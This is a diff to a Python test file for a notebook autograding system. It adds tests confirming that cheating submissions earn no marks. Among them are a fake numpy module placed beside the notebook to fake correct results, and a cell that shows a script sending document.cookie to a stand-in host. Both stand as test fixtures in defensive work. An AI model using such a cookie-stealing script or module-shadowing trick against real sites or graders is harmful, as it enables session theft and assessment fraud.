@@ -9,11 +9,14 @@ import subprocess
 import sys
 from dataclasses import replace
 
+import nbformat
 import numpy as np
 import pytest
+from nbconvert.exporters import HTMLExporter
 
 from autograde import planning, shortcuts
 from autograde.exercises import catalogue
+from autograde.grader.autograded import autograded
 from autograde.grader.feedback import feedback_page
 from autograde.grader.notebook_grading import grade_notebook
 from autograde.grader.results import Result
@@ -121,18 +124,78 @@ def rooms():
 @pytest.mark.exhaustive
 @pytest.mark.parametrize("name", CHEATS)
 def test_the_same_cheat_earns_nothing_here(name, rooms, tmp_path):
-    released = editions.make(NOTEBOOK).student
-    content = json.loads(released)
-    for cell in content["cells"]:
-        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "scores":
-            cell["source"] = CHEATS[name]
+    result = _graded(_with_answer(CHEATS[name]), rooms, tmp_path).result
+    (verdict,) = result.verdicts
+    assert verdict.points == 0 and "FULL MARKS" not in result.to_json(), verdict
+
+
+def _graded(content: dict, rooms, tmp_path):
+    """The notebook with the one exercise."""
     path = tmp_path / f"{NOTEBOOK}.ipynb"
     path.write_text(json.dumps(content))
     blank, limits = Result("ps3", "x", NOTEBOOK), replace(LIMITS, cell_seconds=5.0)
-    template = Template.read(released.encode(), NOTEBOOK)
-    result = grade_notebook(path, template, (SCORES,), rooms, blank, b"s" * 32, limits).result
-    (verdict,) = result.verdicts
-    assert verdict.points == 0 and "FULL MARKS" not in result.to_json(), verdict
+    return grade_notebook(path, _template(), (SCORES,), rooms, blank, b"s" * 32, limits)
+
+
+def _template() -> Template:
+    return Template.read(editions.make(NOTEBOOK).student.encode(), NOTEBOOK)
+
+
+# --- files beside the notebook, and what it shows ---
+
+OWN_NUMPY = (
+    "class Any:\n    T = shape = 1\n    def __getattr__(self, name): return self\n"
+    "    def __call__(self, *a, **k): return self\n    def __truediv__(self, o): return self\n"
+    "    def __matmul__(self, o): return self\ndef __getattr__(name):\n    return Any()\n"
+)
+
+
+@pytest.mark.exhaustive
+def test_a_package_of_ones_own_in_place_of_numpy_works_where_the_kernel_starts_in_the_submissions_folder(tmp_path):
+    (tmp_path / "numpy.py").write_text(OWN_NUMPY)
+    assert _earned_naively(WRONG, tmp_path)
+
+
+@pytest.mark.exhaustive
+@pytest.mark.parametrize("place", [".", "mybert"])
+def test_the_same_package_earns_nothing_here(place, rooms, tmp_path):
+    content = _with_answer(WRONG)
+    (tmp_path / place).mkdir(exist_ok=True)
+    for name in ("numpy", "keras", "autograde", "__init__"):
+        (tmp_path / place / f"{name}.py").write_text(OWN_NUMPY)
+    result = _graded(content, rooms, tmp_path).result
+    assert [verdict.points for verdict in result.verdicts] == [0] and result.technical is None
+
+
+SCRIPT = "<script>fetch('https://example.org/' + document.cookie)</script>"
+
+
+@pytest.mark.exhaustive
+def test_html_that_a_cell_shows_acts_on_a_page_made_as_nbgrader_makes_it():
+    content = _with_answer(WRONG, shown=SCRIPT)
+    page, _ = HTMLExporter().from_notebook_node(nbformat.from_dict(content))
+    assert SCRIPT in page
+
+
+@pytest.mark.exhaustive
+def test_html_that_a_cell_shows_reaches_no_page_here(rooms, tmp_path):
+    display = f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))\nprint({SCRIPT!r})\n"
+    graded = _graded(_with_answer(display + WRONG, shown=SCRIPT), rooms, tmp_path)
+    assert "example.org" not in feedback_page(graded.result) + graded.result.to_json()
+    for_formgrader = autograded(_template(), graded.submission, graded.result.verdicts)
+    assert not [
+        output for cell in for_formgrader["cells"] for output in cell.get("outputs", ()) if "example.org" in str(output)
+    ]
+
+
+def _with_answer(source: str, shown: str = "") -> dict:
+    """The released notebook with an answer, whose cell has shown this HTML."""
+    content = json.loads(editions.make(NOTEBOOK).student)
+    data = {"output_type": "display_data", "metadata": {}, "data": {"text/html": shown}}
+    for cell in content["cells"]:
+        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "scores":
+            cell["source"], cell["outputs"] = source, [data] if shown else []
+    return content
 
 
 # --- many submissions, and names that only look right ---
